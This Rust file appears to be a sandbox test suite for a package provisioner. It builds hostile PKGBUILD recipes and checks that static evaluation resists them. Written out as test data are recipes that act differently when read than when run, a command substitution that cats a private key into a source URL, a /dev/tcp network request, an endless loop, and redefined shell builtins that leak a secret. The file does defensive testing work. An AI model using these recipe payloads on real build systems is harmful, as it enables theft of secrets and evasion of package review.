//! Recipes that say one thing when they are read and another when they are run.

use std::process::Command;

use worker_provisioner::{Config, EvaluationPolicy, Happening};

use crate::harness::{Attack, Tiers, Verdict};
use crate::scene::{self, Outcome, PROGRAM, Place, recipe};
use crate::server::Host;

const KIND: &str = "evaluation";

/// Conditions that makepkg's shell, this host or the sandbox may answer otherwise than a reader,
/// and what makes them true in a shell.
const CONDITIONS: [(&str, &str); 25] = [
    ("-n ${BUILDSCRIPT-}", "BUILDSCRIPT=x"),
    ("-n ${TEXTDOMAIN-}", "TEXTDOMAIN=x"),
    ("-n ${COMMAND_MODE-}", "COMMAND_MODE=x"),
    ("-n ${SOURCE_DATE_EPOCH-}", "SOURCE_DATE_EPOCH=1"),
    ("-n ${CPPFLAGS-}", "CPPFLAGS=x"),
    ("-v CPPFLAGS", "CPPFLAGS="),
    ("-v CFLAGS", "CFLAGS="),
    ("-v MAKEFLAGS", "MAKEFLAGS="),
    ("-v LDFLAGS", "LDFLAGS="),
    ("-v RUSTFLAGS", "RUSTFLAGS="),
    ("-v PACKAGER", "PACKAGER="),
    ("-v PKGDEST", "PKGDEST="),
    ("-v FAKEROOTKEY", "FAKEROOTKEY="),
    ("-v LD_PRELOAD", "LD_PRELOAD="),
    ("-v XDG_RUNTIME_DIR", "XDG_RUNTIME_DIR="),
    ("$SHLVL -gt 1", "SHLVL=9"),
    ("$HOME = *[a-z]*", "HOME=/home/x"),
    ("$USER = *[a-z]*", "USER=x"),
    ("$LANG = C*", "LANG=C.UTF-8"),
    ("$TERM = *[a-z]*", "TERM=x"),
    ("$PWD = *[a-z]*", "PWD=/tmp"),
    ("$(uname -n) = *[a-z]*", ""),
    ("$- = *[a-z]*", ""),
    ("$0 = *[a-z]*", ""),
    ("-e /proc/self", ""),
];

pub(crate) fn attacks() -> Vec<Attack> {
    let conditions = CONDITIONS.iter().map(|&(condition, makes)| {
        let name = format!("another version where `{condition}`");
        Attack::new(KIND, name, move |place| {
            condition_differs(place, condition, makes)
        })
    });
    let others = [
        Attack::new(
            KIND,
            "the recipe runs a program while it is only read",
            runs_when_read,
        ),
        Attack::new(
            KIND,
            "evaluation reads a private file into a source's address",
            into_address,
        )
        .in_tiers(Tiers::Walled),
        Attack::new(KIND, "evaluation asks the network", asks_network).in_tiers(Tiers::Walled),
        Attack::new(KIND, "evaluation never ends", endless),
        Attack::new(
            KIND,
            "a function redefines what the next one calls",
            redefines,
        ),
    ];
    conditions.chain(others).collect()
}

fn statically(place: &Place, host: &Host) -> Config {
    let mut config = place.config(host);
    config.evaluation = EvaluationPolicy::Static;
    config
}

fn printed(outcome: &Outcome, prefix: &str) -> Option<String> {
    outcome
        .events
        .iter()
        .find_map(|event| match &event.happening {
            Happening::Output { line, .. } => line.strip_prefix(prefix).map(str::to_owned),
            _ => None,
        })
}

async fn condition_differs(place: Place, condition: &'static str, makes: &'static str) -> Verdict {
    let head = format!("_evil=no\nif [[ {condition} ]]; then _evil=yes; fi\n");
    let body = format!("package() {{\necho \"ran-as $pkgver$_evil\"\n{PROGRAM}\n}}");
    // Read as `pkgver=1.no` or `pkgver=1.yes`; what runs must be the same.
    let text = recipe(&body).replace("pkgver=1.0.0", &format!("{head}pkgver=1.$_evil"));
    let host = Host::with_recipe(&text).await;
    let outcome = scene::provision(statically(&place, &host), "demo").await;
    let won = match &outcome.result {
        Ok(done) => {
            let read = &done.receipt.pkgver;
            let evil = read.trim_start_matches("1.");
            printed(&outcome, "ran-as ") != Some(format!("{read}{evil}"))
        }
        // It may be refused as not to be told without a shell; nothing may have run then.
        Err(_) => printed(&outcome, "ran-as ").is_some(),
    };
    let control = makes.is_empty() || answers(condition, makes) != answers(condition, "");
    outcome.judged(control, won)
}

/// Whether bash takes the condition for true, with next to no environment and after `makes`.
fn answers(condition: &str, makes: &str) -> bool {
    let unset = "unset SHLVL HOME USER LANG TERM; PWD=/; SHLVL=0";
    let makes = if makes.is_empty() { ":" } else { makes };
    let script = format!("{unset}; {makes}; [[ {condition} ]]");
    let mut bash = Command::new("bash");
    bash.args(["--norc", "-c", &script]).env_clear();
    let status = bash.status().unwrap();
    status.success()
}

async fn runs_when_read(place: Place) -> Verdict {
    let made = place.path("made");
    let line = format!("touch {}", made.display());
    let host = Host::with_recipe(&format!("{line}\n_x=$({line})\n{}", scene::packaging(""))).await;
    let outcome = scene::provision(statically(&place, &host), "demo").await;
    let won = made.exists();
    place.plain_bash(&line);
    outcome.judged(made.exists(), won)
}

async fn into_address(place: Place) -> Verdict {
    let (path, secret) = place.secret("key");
    let host = Host::start().await;
    let taken = format!("$(cat {} 2>/dev/null || echo nothing)", path.display());
    host.offer(&scene::packaging("").replace(
        "package()",
        &format!(
            "source=(\"{}\")\nsha256sums=(SKIP)\npackage()",
            host.url(&format!("/{taken}"))
        ),
    ));
    let outcome = place.provision(&host).await;
    let control = place.plainly_gets(&format!("echo {taken}"), &secret);
    outcome.judged(control, place.leaked(&secret, &outcome, &host))
}

async fn asks_network(place: Place) -> Verdict {
    let private = Host::start().await;
    let ask = format!(
        "(exec 3<>/dev/tcp/127.0.0.1/{}; printf 'GET /evaluated HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3)",
        private.port()
    );
    let host = Host::with_recipe(&format!("_x=\"$({ask})\"\n{}", scene::packaging(""))).await;
    let outcome = place.provision(&host).await;
    let won = private.was_told("/evaluated");
    let (shell, server) = (
        place.clone(),
        ask.replace("(exec", "exec").replace("<&3)", "<&3"),
    );
    let plain = tokio::task::spawn_blocking(move || shell.plain_bash(&server));
    plain.await.unwrap();
    outcome.judged(private.was_told("/evaluated"), won)
}

async fn endless(place: Place) -> Verdict {
    let text =
        scene::packaging("").replace("package()", "while true; do _x+=xxxxxxxx; done\npackage()");
    let host = Host::with_recipe(&text).await;
    let config = statically(&place, &host);
    let outcome = scene::provision(config, "demo").await;
    let loops = "timeout 1 bash -c 'while true; do :; done'; echo status $?";
    let control = place.plain_bash(loops).contains("status 124");
    outcome.judged(control, outcome.installed())
}

async fn redefines(place: Place) -> Verdict {
    // makepkg's own words, put over by the recipe, must not become the sandbox's.
    let (_, secret) = place.secret("key");
    let lines = format!(
        "install() {{ cat {}/key; }}\ncommand() {{ cat {}/key; }}\nsource() {{ cat {0}/key; }}\n\
         unset() {{ :; }}\nset() {{ cat {0}/key; }}\ntrap() {{ cat {0}/key; }}\n",
        place.root().display(),
        place.root().display()
    );
    let text = format!("{lines}{}", scene::packaging("  install x; command y"));
    let host = Host::with_recipe(&text).await;
    let outcome = place.provision(&host).await;
    let control = place.plainly_gets(&format!("{lines}\ninstall"), &secret);
    outcome.judged(control, place.leaked(&secret, &outcome, &host))
}
